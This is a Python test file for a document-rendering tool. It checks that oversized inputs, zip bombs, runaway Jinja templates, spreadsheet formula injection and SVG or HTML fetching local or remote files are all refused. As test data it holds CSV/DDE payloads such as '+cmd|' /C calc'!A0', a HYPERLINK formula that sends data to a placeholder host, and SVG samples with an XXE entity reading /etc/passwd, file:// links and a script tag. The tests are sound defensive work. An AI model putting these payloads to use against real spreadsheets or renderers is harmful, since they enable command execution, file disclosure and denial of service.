"""Hostile inputs get a result or a clear error, never unbounded work, a fetch or a formula.

Each test gives one abuse a tester found (a huge file, /dev/zero, a template that writes 100 MB
or loops forever, a zip bomb, a formula in an SOP cell, a logo that links a local file) and
checks the refusal names what was refused and the limit. No test times anything: speed is
measured in benchmarks/bench_render.py.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import attrs
import pytest

from uji_konsekuensi import jsonio, limits
from uji_konsekuensi.cli import main
from uji_konsekuensi.converter import structure
from uji_konsekuensi.documents import letterhead as letterhead_module
from uji_konsekuensi.documents.document_settings import DocumentSettings
from uji_konsekuensi.documents.letterhead import Letterhead, load_letterhead
from uji_konsekuensi.documents.render import render_document
from uji_konsekuensi.documents.sources import DocumentError
from uji_konsekuensi.errors import InputError
from uji_konsekuensi.harm import ConsequenceTestSheet
from uji_konsekuensi.sop.io import load_sop

ROOT = Path(__file__).resolve().parents[1]
KASN_CASE = ROOT / "examples" / "cases" / "kasn.case.json"
KASN_SOP = ROOT / "plugins" / "kasn" / "src" / "uji_konsekuensi_kasn" / "sop.json"
#: A 1x1 white PNG (a real image).
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4//8/AAX+Av4N70a4AAAAAElFTkSuQmCC"
)


@pytest.fixture(autouse=True)
def _english(monkeypatch: pytest.MonkeyPatch) -> None:
    """Messages in English, so the tests read the same words whatever the machine's setting
    (the Indonesian text is the same message; test_limits_abuse checks both in one place)."""
    monkeypatch.setenv("UJI_KONSEKUENSI_LANG", "en")


def lembar(rows: int) -> ConsequenceTestSheet:
    """KASN's Lembar with ``rows`` rows (its three real rows repeated)."""
    data = json.loads(KASN_CASE.read_text(encoding="utf-8"))
    sheet = data["penetapan"]["sheets"][0]
    real = sheet["rows"]
    sheet["rows"] = [copy.deepcopy(real[i % len(real)]) for i in range(rows)]
    result: ConsequenceTestSheet = structure(sheet, ConsequenceTestSheet, "lembar")
    return result


# --- input size --------------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_naming_file_size_and_limit(tmp_path: Path) -> None:
    path = tmp_path / "besar.case.json"
    path.write_bytes(b'{"x": "' + b"a" * 2000 + b'"}')
    with pytest.raises(InputError) as caught:
        jsonio.read_json(path, limit=1000)
    text = caught.value.render("en")
    size = path.stat().st_size
    assert str(path) in text and f"{size} bytes" in text and "limit is 1000 bytes" in text
    assert "terlalu besar" in caught.value.render("id") and "batasnya 1000 bita" in (
        caught.value.render("id")
    )
    assert jsonio.read_json(path, limit=4000) == {"x": "a" * 2000}


def test_dev_zero_is_refused_after_reading_one_byte_past_the_limit() -> None:
    """An endless device is read up to limit + 1 bytes and refused, not read until memory ends."""
    with pytest.raises(InputError, match=r"more than 4096 bytes"):
        jsonio.read_text("/dev/zero", limit=4096)


def test_read_stream_reads_no_more_than_limit_plus_one_byte() -> None:
    stream = io.BytesIO(b"x" * 10_000)
    with pytest.raises(InputError):
        jsonio.read_stream(stream, "<s>", limit=100)
    assert stream.tell() == 101


def test_the_size_limit_comes_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    assert limits.max_input_bytes({}) == limits.MAX_INPUT_BYTES == 16 * 1024 * 1024
    assert limits.max_input_bytes({limits.MAX_INPUT_BYTES_ENV: "2048"}) == 2048
    monkeypatch.setenv(limits.MAX_INPUT_BYTES_ENV, "10")
    with pytest.raises(InputError, match="limit is 10 bytes"):
        jsonio.parse_json(jsonio.read_text(KASN_CASE))


def test_check_refuses_oversized_standard_input_with_exit_2(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(limits.MAX_INPUT_BYTES_ENV, "1000")
    data = KASN_CASE.read_bytes()
    assert len(data) > 1000
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(data)))
    code = main(["check", "-", "--format", "json"])
    out = capsys.readouterr().out
    assert code == 2
    problem = json.loads(out)["unreadable"][0]
    assert problem["file"] == "<stdin>" and "1000" in json.dumps(problem)


def test_check_refuses_an_oversized_case_file_with_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv(limits.MAX_INPUT_BYTES_ENV, "1000")
    path = tmp_path / "kasn.case.json"
    path.write_bytes(KASN_CASE.read_bytes())
    assert main(["check", str(path), "--lang", "en"]) == 2
    out, err = capsys.readouterr()
    assert "1 unreadable" in out and "input too large" in out + err


# --- rows of a document ------------------------------------------------------------------------


def test_a_document_over_the_row_limit_is_refused_before_any_work() -> None:
    with pytest.raises(DocumentError) as caught:
        render_document("lembar", lembar(6), "pdf", settings=DocumentSettings(max_rows=5))
    message = str(caught.value)
    assert "6 rows exceed the limit of 5 rows" in message and "lembar" in message
    # At the limit it renders.
    html = render_document("lembar", lembar(5), "html", settings=DocumentSettings(max_rows=5))
    assert isinstance(html, str) and html.count('data-row="') == 5


def test_the_row_limit_defaults_and_comes_from_the_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert DocumentSettings().max_rows == limits.MAX_DOCUMENT_ROWS
    monkeypatch.setenv("UJI_KONSEKUENSI_MAX_DOCUMENT_ROWS", "2")
    with pytest.raises(DocumentError, match="3 rows exceed the limit of 2"):
        render_document("lembar", lembar(3), "html")
    monkeypatch.setenv("UJI_KONSEKUENSI_MAX_DOCUMENT_ROWS", "many")
    with pytest.raises(InputError, match="positive whole number"):
        render_document("lembar", lembar(1), "html")
    with pytest.raises(ValueError, match="max_rows"):
        DocumentSettings(max_rows=0)


def test_docx_tables_are_built_row_by_row_without_table_cell(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``Table.cell`` rebuilds the grid on every call (quadratic): it must not be used; the
    merged header cells (rowspan, colspan) still come out merged."""
    docx = pytest.importorskip("docx")

    def forbidden(*args: Any) -> Any:
        raise AssertionError("Table.cell used: quadratic in rows")

    monkeypatch.setattr(docx.table.Table, "cell", forbidden)
    data = render_document("lembar", lembar(40), "docx")
    monkeypatch.undo()
    assert isinstance(data, bytes)
    table = docx.Document(io.BytesIO(data)).tables[0]
    assert len(table.rows) == 2 + 40
    header = table.rows[0].cells
    assert header[0]._tc is table.rows[1].cells[0]._tc  # "No" spans the two header rows
    assert header[3]._tc is header[4]._tc  # "Konsekuensi" spans Dibuka and Ditutup
    assert table.rows[1].cells[3].text == "Dibuka" and table.rows[1].cells[4].text == "Ditutup"
    assert table.rows[41].cells[0].text == "40"


# --- templates ---------------------------------------------------------------------------------

HOSTILE_TEMPLATES = {
    "100 MB of output": "{{ 'A' * 100000000 }}",
    "nested ranges": (
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    ),
    "a huge range": "{{ range(10000000) | length }}",
    "a huge width": "{{ 'a' | center(1000000000) }}",
    "a huge method argument": "{{ 'a'.ljust(1000000000) }}",
    "a huge % width": "{{ '%999999999d' % 1 }}",
    "a huge format width": "{{ '{:>999999999}'.format(1) }}",
    "a huge power": "{{ 2 ** 100000000 }}",
    "doubling by ~": (
        "{% set ns = namespace(s='a') %}{% for i in range(60) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}"
    ),
    "doubling by +": (
        "{% set ns = namespace(s='a') %}{% for i in range(60) %}"
        "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s | length }}"
    ),
    "squaring a number": (
        "{% set ns = namespace(n=3) %}{% for i in range(60) %}"
        "{% set ns.n = ns.n * ns.n %}{% endfor %}{{ ns.n > 0 }}"
    ),
    "a macro fanning out": (
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}"
    ),
    "a replace blowing up": "{{ ('a' * 100000) | replace('a', 'b' * 1000) }}",
    "filters walking nested lists": "{{ ([range(100000)] * 100000) | map('list') | list }}",
    "a join growing past the limit": "{{ ([range(100000) | list | string] * 1000) | join }}",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TEMPLATES))
def test_a_template_past_a_limit_is_a_clear_error_naming_the_template(
    name: str, tmp_path: Path
) -> None:
    (tmp_path / "lembar.html.j2").write_text(HOSTILE_TEMPLATES[name], encoding="utf-8")
    small = DocumentSettings(templates=(tmp_path,), max_loops=200_000, max_output=1_000_000)
    with pytest.raises(DocumentError) as caught:
        render_document("lembar", lembar(1), "html", settings=small)
    message = str(caught.value)
    assert "lembar.html.j2" in message
    assert "limit" in message


def test_the_builtin_templates_render_well_within_the_limits() -> None:
    """The real Lembar of 200 rows renders under a tenth of the default loop budget."""
    settings = DocumentSettings(max_loops=limits.MAX_TEMPLATE_LOOPS // 10)
    html = render_document("lembar", lembar(200), "html", settings=settings)
    assert isinstance(html, str) and html.count('data-row="') == 200


def test_a_template_may_still_loop_format_and_concatenate_within_limits() -> None:
    from uji_konsekuensi.documents.environment import TemplateLimits, make_environment

    env = make_environment("html", limits=TemplateLimits(max_loops=1000, max_output=1000))
    text = env.from_string(
        "{% for i in range(3) %}{{ loop.index }}{{ '-' ~ loop.last }}{% endfor %}"
        "|{{ '%5d' | format(7) }}|{{ '{:>4}'.format('x') }}|{{ 'ab' * 3 }}|{{ 2 ** 10 }}"
    ).render()
    assert text == "1-False2-False3-True|    7|   x|ababab|1024"


# --- archives given to sop import --------------------------------------------------------------


def _docx_with(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


def test_a_zip_bomb_docx_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    from uji_konsekuensi.sop.importer import import_sop

    bomb = _docx_with(
        tmp_path / "bom.docx",
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * (101 * 1024 * 1024)},
    )
    assert bomb.stat().st_size < 400_000
    with pytest.raises(InputError) as caught:
        import_sop(bomb)
    text = caught.value.render("en")
    assert str(bomb) in text and "unpacks to" in text and str(limits.MAX_ARCHIVE_UNPACKED) in text


def test_an_archive_compressed_a_thousand_times_is_refused(tmp_path: Path) -> None:
    from uji_konsekuensi.sop.importer import import_sop

    dense = _docx_with(tmp_path / "padat.xlsx", {"xl/workbook.xml": b"\0" * 8_000_000})
    with pytest.raises(InputError, match=r"compressed \d+ times"):
        import_sop(dense)


def test_an_archive_of_too_many_entries_is_refused(tmp_path: Path) -> None:
    from uji_konsekuensi.sop.importer.archive import check_archive

    many = _docx_with(tmp_path / "banyak.docx", {f"word/p{i}.xml": b"" for i in range(30)})
    with pytest.raises(InputError, match="30 entries; the limit is 20"):
        check_archive(many, max_entries=20)
    check_archive(many)  # within the default limits


# --- formulas in spreadsheets and CSV ----------------------------------------------------------

INJECTED = {
    "activity": '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "note": "+cmd|' /C calc'!A0",
    "waktu_text": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _injected_sop() -> Any:
    sop = load_sop(KASN_SOP)
    steps = list(sop.steps)
    steps[0] = attrs.evolve(steps[0], activity=INJECTED["activity"], note=INJECTED["note"])
    steps[1] = attrs.evolve(steps[1], activity="-2+3", waktu_text=INJECTED["waktu_text"])
    return attrs.evolve(sop, steps=tuple(steps))


def test_csv_cells_that_start_a_formula_are_quoted_and_read_back_as_written(
    tmp_path: Path,
) -> None:
    from uji_konsekuensi.sop.importer.template import read_template, write_template

    path = write_template(tmp_path / "sop.csv", _injected_sop())
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'+cmd|" in text and "'@SUM(" in text and "'-2+3" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
    draft, _ = read_template(path)
    first, second = draft["steps"][0], draft["steps"][1]
    assert first["activity"] == INJECTED["activity"] and first["note"] == INJECTED["note"]
    assert second["activity"] == "-2+3" and second["waktu_text"] == INJECTED["waktu_text"]


def test_xlsx_cells_that_start_a_formula_are_strings_not_formulas(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from uji_konsekuensi.sop.importer.template import read_template, write_template

    path = write_template(tmp_path / "sop.xlsx", _injected_sop())
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path)
    cell = book["Langkah"]["B2"]
    assert cell.value == INJECTED["activity"] and cell.data_type == "s" and cell.quotePrefix
    draft, _ = read_template(path)
    assert draft["steps"][0]["activity"] == INJECTED["activity"]
    assert draft["steps"][0]["note"] == INJECTED["note"]


# --- nothing fetched ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<p>x</p><img src="file:///etc/hostname">',
        '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><p>x</p>',
        "<style>@import url(file:///etc/hostname);</style><p>x</p>",
    ],
)
def test_pdf_refuses_every_url_but_data(html: str) -> None:
    pytest.importorskip("weasyprint")
    from uji_konsekuensi.documents.pdf import FetchRefusedError, html_to_pdf

    with pytest.raises(FetchRefusedError, match="only data: is read"):
        html_to_pdf(html)


def test_an_svg_image_linking_a_local_file_does_not_get_it_into_the_pdf(tmp_path: Path) -> None:
    pytest.importorskip("weasyprint")
    pypdf = pytest.importorskip("pypdf")
    from uji_konsekuensi.documents.pdf import html_to_pdf

    secret = tmp_path / "rahasia.png"
    secret.write_bytes(PNG)
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
        f'<image href="{secret.as_uri()}" width="20" height="20"/></svg>'
    )
    uri = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
    embedded = "data:image/png;base64," + base64.b64encode(PNG).decode()

    def images(html: str) -> int:
        page = pypdf.PdfReader(io.BytesIO(html_to_pdf(html))).pages[0]
        return len(page.images)

    assert images(f'<img src="{embedded}">') == 1  # the count sees an embedded image
    assert images(f'<img src="{uri}">') == 0


def _letterhead_file(tmp_path: Path, name: str, data: bytes) -> Path:
    (tmp_path / name).write_bytes(data)
    path = tmp_path / "kop.json"
    path.write_text(json.dumps({"lines": ["DINAS CONTOH"], "logo": name}), encoding="utf-8")
    return path


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("logo.png", b"ini bukan gambar\n", "not a PNG, JPEG or SVG"),
        ("logo.png", b"\xff\xd8\xff\xe0" + b"\0" * 20, "named .png but holds image/jpeg"),
        ("logo.svg", (SVG_HEAD + '<image href="file:///etc/passwd"/></svg>').encode(), "outside"),
        (
            "logo.svg",
            (SVG_HEAD + '<use xlink:href="http://x.invalid/a.svg#b"/></svg>').encode(),
            "outside",
        ),
        (
            "logo.svg",
            (SVG_HEAD + '<rect style="fill:url(http://x.invalid/p)"/></svg>').encode(),
            "outside",
        ),
        ("logo.svg", (SVG_HEAD + "<style>@import 'x.css';</style></svg>").encode(), "outside"),
        ("logo.svg", (SVG_HEAD + "<script>alert(1)</script></svg>").encode(), "<script>"),
        (
            "logo.svg",
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + SVG_HEAD.encode()
            + b"<text>&x;</text></svg>",
            "entities",
        ),
    ],
)
def test_a_logo_is_checked_by_its_content(
    tmp_path: Path, name: str, data: bytes, reason: str
) -> None:
    path = _letterhead_file(tmp_path, name, data)
    with pytest.raises(InputError) as caught:
        load_letterhead(path)
    assert reason in caught.value.render("en")
    # A plugin's Letterhead (no JSON file) is checked when its logo is embedded.
    with pytest.raises(InputError, match="logo"):
        Letterhead(lines=("DINAS",), logo=tmp_path / name).logo_data_uri()


def test_a_clean_logo_is_embedded_by_its_content_type(tmp_path: Path) -> None:
    svg = (
        SVG_HEAD + '<defs><linearGradient id="g"/></defs><rect fill="url(#g)"/>'
        '<image xlink:href="data:image/png;base64,AAAA"/></svg>'
    ).encode()
    for name, data, mime in (("logo.png", PNG, "image/png"), ("logo.svg", svg, "image/svg+xml")):
        head = load_letterhead(_letterhead_file(tmp_path, name, data))
        uri = head.logo_data_uri()
        assert uri is not None and uri.startswith(f"data:{mime};base64,")
    assert letterhead_module.MAX_LOGO_BYTES == 2_000_000


def test_streaming_a_template_runs_under_the_same_budget() -> None:
    """``generate``/``stream`` give the output piece by piece under one budget, not one per
    loop: two nested loops of 100 stop at a budget of 1,000 steps."""
    from uji_konsekuensi.documents.environment import (
        TemplateLimitError,
        TemplateLimits,
        make_environment,
    )

    env = make_environment("html", limits=TemplateLimits(max_loops=1000))
    nested = env.from_string(
        "{% for i in range(100) %}{% for j in range(100) %}{{ j }}{% endfor %}{% endfor %}"
    )
    with pytest.raises(TemplateLimitError, match="more than 1000 loop iterations"):
        "".join(nested.generate())
    assert "".join(env.from_string("{% for i in range(3) %}{{ i }}{% endfor %}").stream()) == "012"
